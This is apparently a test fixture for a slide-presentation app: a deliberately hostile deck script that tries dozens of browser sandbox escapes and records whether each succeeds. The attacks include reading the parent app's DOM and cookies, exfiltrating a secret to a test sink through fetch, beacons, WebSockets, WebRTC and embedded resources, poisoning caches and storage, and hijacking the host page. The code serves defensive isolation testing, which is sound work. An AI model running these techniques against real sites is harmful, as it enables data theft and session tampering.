// A deck by somebody who means harm. Each attack says what came of it; `window.outcomes` holds the answers.
// KNOWN (app, content, sink, tcp, udp, victim, digest) is written above this script by the test.

const outcomes = {};
window.outcomes = outcomes;
const EVIL = "<!doctype html><title>evil</title><h1>EVIL CONTENT</h1>";
const secret = "patient-list";
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const out = (name) => `${KNOWN.sink}/${name}?data=${secret}`;

/** Resolves with the name of the first event of `names` on `target`, or "silence". */
function event(target, ...names) {
  return Promise.race([
    ...names.map((name) => new Promise((resolve) => target.addEventListener(name, () => resolve(name), { once: true }))),
    wait(1500).then(() => "silence"),
  ]);
}

function element(tag, attributes, place = document.body) {
  const made = document.createElement(tag);
  const heard = event(made, "load", "error", "canplay");
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  place.append(made);
  return heard;
}

function style(css) {
  const made = document.createElement("style");
  made.textContent = css;
  document.head.append(made);
  return wait(300).then(() => "asked");
}

async function inWorker(code) {
  const worker = new Worker(URL.createObjectURL(new Blob([`(async () => { ${code} })().then((x) => postMessage(x), (e) => postMessage(e.name))`])));
  const answer = new Promise((resolve) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => resolve("error");
  });
  return Promise.race([answer, wait(2000).then(() => "silence")]);
}

function store(name, mode = "readonly") {
  return new Promise((resolve, reject) => {
    const asked = indexedDB.open("krug-slides");
    asked.onsuccess = () => resolve(asked.result.transaction(name, mode).objectStore(name));
    asked.onerror = () => reject(asked.error);
  });
}
const done = (request) =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });

async function socket(url) {
  const made = new WebSocket(url);
  return event(made, "open", "error");
}

async function rtc(urls, Peer = window.RTCPeerConnection) {
  const peer = new Peer({ iceServers: [{ urls, username: secret, credential: "x" }], iceTransportPolicy: "all" });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await wait(1500);
  return peer.iceGatheringState;
}

const attacks = {
  // The application
  "app dom": () => parent.document.title,
  "app dom by frame": () => parent.frames[0].parent.document.title,
  "top navigation": () => { top.location = out("top"); return "asked"; },
  "parent navigation": () => { parent.location.href = out("parent"); return "asked"; },
  "app local storage": () => parent.localStorage.length,
  "app property": () => parent.testing.heard.length,
  "own local storage holds nothing of the app": () => localStorage.getItem("app-secret") ?? "nothing",
  "app databases": async () => (await indexedDB.databases()).map(({ name }) => name).includes("app-database"),
  "app caches": async () => (await caches.keys()).includes("app-cache"),
  "read cookie": () => document.cookie.includes("krug_session"),
  "read cookie store": async () => (await cookieStore.getAll()).some(({ name }) => name === "krug_session"),
  "overwrite cookie": () => { document.cookie = "krug_session=evil; path=/"; return document.cookie.includes("evil"); },
  "toss cookie": () => { document.cookie = "krug_session=evil; path=/page"; return "asked"; },
  "register a worker on the app": () => navigator.serviceWorker.register(`${KNOWN.app}/page.js`, { scope: "/" }),
  "register a worker of ours": () => navigator.serviceWorker.register("evil-worker.js", { scope: "/" }),
  "register a worker from a blob": () => navigator.serviceWorker.register(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }))),
  "forged messages to the app": async () => {
    parent.postMessage({ type: "krug:welcome" }, "*");
    parent.postMessage({ type: "krug:connect" }, "*");
    for (let i = 0; i < 50; i++) parent.postMessage({ type: "krug:hello", protocol: 1, __proto__: { x: 1 } }, "*");
    krug.go(["x"]);
    krug.answer({ evil: 1 }, { evil: 1 }, { kind: "evil" });
    krug.react(1e9);
    return "asked";
  },

  // Ways out
  "fetch app": () => fetch(`${KNOWN.app}/stolen`, { credentials: "include" }).then(() => "answered"),
  "fetch app without cors": () => fetch(`${KNOWN.app}/stolen`, { mode: "no-cors", credentials: "include" }).then(() => "answered"),
  "post to app": () => fetch(`${KNOWN.app}/stolen`, { method: "POST", mode: "no-cors", body: "x" }).then(() => "answered"),
  "fetch": () => fetch(out("fetch"), { mode: "no-cors" }).then(() => "answered"),
  "fetch keepalive": () => fetch(out("keepalive"), { mode: "no-cors", keepalive: true }).then(() => "answered"),
  "fetch later": () => { if (!window.fetchLater) return "absent"; fetchLater(out("fetch-later"), { activateAfter: 0 }); return "asked"; },
  "xhr": () => { const x = new XMLHttpRequest(); x.open("GET", out("xhr")); const heard = event(x, "load", "error"); x.send(); return heard; },
  "websocket": () => socket(out("websocket").replace("http", "ws")),
  "websocket to app": () => socket(`${KNOWN.app}/stolen`.replace("http", "ws")),
  "event source": () => event(new EventSource(out("event-source")), "open", "error"),
  "beacon": () => { navigator.sendBeacon(out("beacon"), secret); return "asked"; },
  "web transport": async () => { const t = new WebTransport(out("transport").replace("http:", "https:")); await t.ready; return "open"; },
  "image": () => element("img", { src: out("image") }),
  "srcset": () => element("img", { srcset: `${out("srcset")} 1x` }),
  "svg image": () => { document.body.insertAdjacentHTML("beforeend", `<svg><image href="${out("svg-image")}"/><use href="${out("svg-use")}#x"/></svg>`); return wait(300).then(() => "asked"); },
  "script": () => element("script", { src: out("script") }),
  "module": () => import(out("module")).then(() => "answered"),
  "style sheet": () => element("link", { rel: "stylesheet", href: out("style-sheet") }),
  "css import": () => style(`@import url("${out("css-import")}");`),
  "css background": () => style(`body { background: url("${out("css-background")}") }`),
  "font": () => { const made = new FontFace("evil", `url("${out("font")}")`); return made.load().then(() => "loaded"); },
  "video": () => element("video", { src: out("video"), poster: out("poster"), autoplay: "" }),
  "audio": () => element("audio", { src: out("audio"), autoplay: "" }),
  "track": () => { document.body.insertAdjacentHTML("beforeend", `<video><track default src="${out("track")}"></video>`); return wait(300).then(() => "asked"); },
  "iframe": () => element("iframe", { src: out("iframe") }),
  "iframe of the app": () => element("iframe", { src: `${KNOWN.app}/stolen` }),
  "iframe without a policy": async () => {
    const frame = document.createElement("iframe");
    frame.srcdoc = `<img src="${out("srcdoc")}"><script>fetch("${out("srcdoc-fetch")}", {mode: "no-cors"})</scr` + "ipt>";
    document.body.append(frame);
    const blank = document.createElement("iframe");
    document.body.append(blank);
    blank.contentDocument.write(`<img src="${out("blank")}">`);
    await wait(500);
    return "asked";
  },
  "iframe of a blob": () => element("iframe", { src: URL.createObjectURL(new Blob([`<img src="${out("blob-frame")}">`], { type: "text/html" })) }),
  "object": () => element("object", { data: out("object") }),
  "embed": () => element("embed", { src: out("embed") }),
  "base": () => { element("base", { href: `${KNOWN.sink}/base/` }, document.head); return element("img", { src: "base.png?data=x" }); },
  "form": () => { document.body.insertAdjacentHTML("beforeend", `<form id="f" method="post" action="${out("form")}"><input name="a" value="${secret}"></form>`); document.getElementById("f").submit(); return wait(300).then(() => "asked"); },
  "form to a new window": () => { document.body.insertAdjacentHTML("beforeend", `<form id="g" target="_blank" action="${out("form-window")}"></form>`); document.getElementById("g").submit(); return wait(300).then(() => "asked"); },
  "window": () => window.open(out("window")) === null ? "null" : "opened",
  "link to a new window": () => { const a = Object.assign(document.createElement("a"), { href: out("anchor"), target: "_blank", ping: out("ping") }); document.body.append(a); a.click(); return wait(300).then(() => "asked"); },
  "prefetch": () => element("link", { rel: "prefetch", href: out("prefetch") }, document.head),
  "preload": () => element("link", { rel: "preload", as: "image", href: out("preload") }, document.head),
  "module preload": () => element("link", { rel: "modulepreload", href: out("modulepreload") }, document.head),
  "prerender": () => element("link", { rel: "prerender", href: out("prerender") }, document.head),
  "icon": () => element("link", { rel: "icon", href: out("icon") }, document.head),
  "web manifest": () => element("link", { rel: "manifest", href: out("manifest") }, document.head),
  "speculation rules": () => {
    const made = document.createElement("script");
    made.type = "speculationrules";
    made.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [out("speculation")] }], prerender: [{ source: "list", urls: [out("speculation-prerender")] }] });
    document.head.append(made);
    return wait(500).then(() => "asked");
  },
  "worker": () => inWorker(`await fetch("${out("worker")}", { mode: "no-cors" }); return "answered";`),
  "worker import": () => inWorker(`importScripts("${out("worker-import")}"); return "answered";`),
  "worker socket": () => inWorker(`const s = new WebSocket("${out("worker-socket").replace("http", "ws")}"); return await new Promise((r) => { s.onopen = () => r("open"); s.onerror = () => r("error"); });`),
  "worker from outside": () => event(new Worker(out("worker-script")), "message", "error"),
  "shared worker": async () => {
    const shared = new SharedWorker(URL.createObjectURL(new Blob([`onconnect = ({ ports: [port] }) => fetch("${out("shared-worker")}", { mode: "no-cors" }).then(() => port.postMessage("answered"), (e) => port.postMessage(e.name))`])));
    const answer = new Promise((resolve) => { shared.port.onmessage = ({ data }) => resolve(data); shared.onerror = () => resolve("error"); });
    return Promise.race([answer, wait(1500).then(() => "silence")]);
  },
  "shared worker of the deck": () => event(new SharedWorker("evil-worker.js"), "error"),
  "stun": () => rtc(`stun:127.0.0.1:${KNOWN.udp}`),
  "turn": () => rtc(`turn:127.0.0.1:${KNOWN.tcp}?transport=tcp`),
  "preconnect": async () => { const made = element("link", { rel: "preconnect", href: `http://127.0.0.1:${KNOWN.tcp}` }, document.head); await wait(500); return made; },
  "preconnect across": async () => { element("link", { rel: "preconnect", crossorigin: "", href: `http://localhost:${KNOWN.tcp}` }, document.head); return wait(500).then(() => "asked"); },
  "background fetch": async () => { const ready = await navigator.serviceWorker.ready; const asked = await ready.backgroundFetch.fetch("x", [out("background-fetch")]); await wait(800); return asked.failureReason || "asked"; },
  "style attribute": () => element("div", { style: `background: url('${out("style-attribute")}')` }).then(() => "asked"),
  "paste a policy away": () => { document.querySelectorAll("meta").forEach((one) => one.remove()); return element("img", { src: out("no-policy") }); },

  // The other deck, and the origin itself
  "read the other deck": async () => { const blob = await done((await store("files")).get(KNOWN.victim)); return blob instanceof Blob ? "read" : "absent"; },
  "overwrite the other deck": async () => { const files = await store("files", "readwrite"); await done(files.put(new Blob([EVIL]), KNOWN.victim)); return "written"; },
  "forge a showing": async () => {
    const text = JSON.stringify({ version: KNOWN.version, files: [["index.html", KNOWN.victim, "text/html", 9]] });
    await done((await store("showing", "readwrite")).put(text, KNOWN.digest));
    return "written";
  },
  "message the worker": async () => {
    const { port1, port2 } = new MessageChannel();
    const { controller } = navigator.serviceWorker;
    controller.postMessage({ type: "open", version: KNOWN.version, files: [["index.html", KNOWN.victim, "text/html", 9]] });
    controller.postMessage({ type: "krug:connect", protocol: 1 }, [port2]);
    port1.postMessage({ id: 1, type: "open", version: KNOWN.version, files: [] });
    return "asked";
  },
  "fetch the other deck's page": async () => { const answer = await fetch(`/s/${KNOWN.version}/${KNOWN.digest}/index.html`); return String(answer.status); },
  "poison caches": async () => {
    const cache = await caches.open("krug-shell");
    for (const path of ["/host.html", "/krug/host.js", "/krug/bridge.js", "/worker.js"]) await cache.put(path, new Response("document.title='EVIL'"));
    return "written";
  },
  "plant storage": () => { localStorage.setItem("planted", "EVIL"); sessionStorage.setItem("planted", "EVIL"); document.cookie = "planted=EVIL; path=/"; return "written"; },
  "plant a database": async () => { await done(indexedDB.open("planted")); return "written"; },
  "plant private files": async () => { const folder = await navigator.storage.getDirectory(); await folder.getFileHandle("planted", { create: true }); return "written"; },
  "take over the host page": async () => {
    const host = [...Array(parent.length).keys()].map((at) => parent.frames[at]).find((one) => { try { return one !== window && one.location.pathname === "/host.html"; } catch { return false; } });
    if (!host) return "absent";
    const real = host.MessagePort.prototype.postMessage;
    host.MessagePort.prototype.postMessage = function (answer, ...rest) {
      return real.call(this, answer.files ? { ...answer, files: [[KNOWN.victim, 9]] } : answer, ...rest);
    };
    host.setInterval(() => host.localStorage.setItem("planted", "EVIL"), 20);
    host.addEventListener("pagehide", () => host.localStorage.setItem("planted", "EVIL"));
    return "taken";
  },
  "a script in the host page": async () => {
    const host = [...Array(parent.length).keys()].map((at) => parent.frames[at]).find((one) => { try { return one !== window && one.location.pathname === "/host.html"; } catch { return false; } });
    if (!host) return "absent";
    const made = host.document.createElement("script");
    made.src = new URL("evil-worker.js", location.href);
    const heard = event(made, "load", "error");
    host.document.head.append(made);
    return heard;
  },
  "keep on writing": async () => { setInterval(() => localStorage.setItem("planted", "EVIL"), 10); addEventListener("pagehide", () => localStorage.setItem("planted", "EVIL")); return "written"; },
  "unregister the worker": async () => String(await (await navigator.serviceWorker.ready).unregister()),
};

// What would hide the others' doing is asked for alone.
const alone = {
  "spoil the database": async () => {
    await done(indexedDB.deleteDatabase("krug-slides"));
    const asked = indexedDB.open("krug-slides", 99);
    asked.onupgradeneeded = () => asked.result.createObjectStore("nonsense");
    await done(asked);
    return "spoilt";
  },
  "hang": () => { const end = Date.now() + 20_000; while (Date.now() < end); },
  "flood cookies": () => {
    for (let at = 0; at < 400; at++) document.cookie = `flood${at}=${"x".repeat(200)}; path=/`;
    document.cookie = "krug_session=evil; path=/";
    return document.cookie.includes("krug_session=evil");
  },
};

// These take the frame itself elsewhere, so each gets a showing of its own.
const departures = {
  "turn from another realm": async () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return rtc(`turn:127.0.0.1:${KNOWN.tcp}?transport=tcp`, frame.contentWindow.RTCPeerConnection);
  },
  "stun from another realm": async () => {
    const frame = document.createElement("iframe");
    frame.srcdoc = "x";
    document.body.append(frame);
    await wait(300);
    return rtc(`stun:127.0.0.1:${KNOWN.udp}`, frame.contentWindow.RTCPeerConnection);
  },
  "download": () => { const a = Object.assign(document.createElement("a"), { href: out("download"), download: "x" }); document.body.append(a); a.click(); return wait(300).then(() => "asked"); },
  "location": () => { location.href = out("location"); },
  "location of the app": () => { location.href = `${KNOWN.app}/stolen`; },
  "meta refresh": () => element("meta", { "http-equiv": "refresh", content: `0;url=${out("meta-refresh")}` }, document.head),
  "form in place": () => { document.body.insertAdjacentHTML("beforeend", `<form id="f" action="${out("form-in-place")}"></form>`); document.getElementById("f").submit(); },
  "blob in place": () => { location.href = URL.createObjectURL(new Blob([`<img src="${out("blob-in-place")}"><script>fetch("${out("blob-fetch")}", { mode: "no-cors" })</scr` + "ipt>"], { type: "text/html" })); },
  "data in place": () => { location.href = `data:text/html,<img src="${out("data-in-place")}">`; },
  "written over": () => { document.open(); document.write(`<img src="${out("written-over")}"><script>fetch("${out("written-fetch")}", { mode: "no-cors" })</scr` + "ipt>"); document.close(); },
  "host page in place": () => { location.href = "/host.html"; },
  "server's own answer": async () => { await (await navigator.serviceWorker.ready).unregister(); location.href = "/s/unknown"; },
};

window.names = { attacks: Object.keys(attacks), departures: Object.keys(departures), alone: Object.keys(alone) };

addEventListener("load", async () => {
  if (ONLY === "nothing") return;
  const chosen = ONLY ? { [ONLY]: { ...departures, ...alone, ...attacks }[ONLY] } : attacks;
  for (const [name, attack] of Object.entries(chosen)) {
    if (ONLY) await new Promise((resolve) => krug.on("slide", resolve));
    krug.go(name);
    if (ONLY) await wait(300);
    try {
      outcomes[name] = String(await Promise.race([attack(), wait(6000).then(() => "silence")]));
    } catch (error) {
      outcomes[name] = error?.name ?? String(error);
    }
  }
  window.finished = true;
});
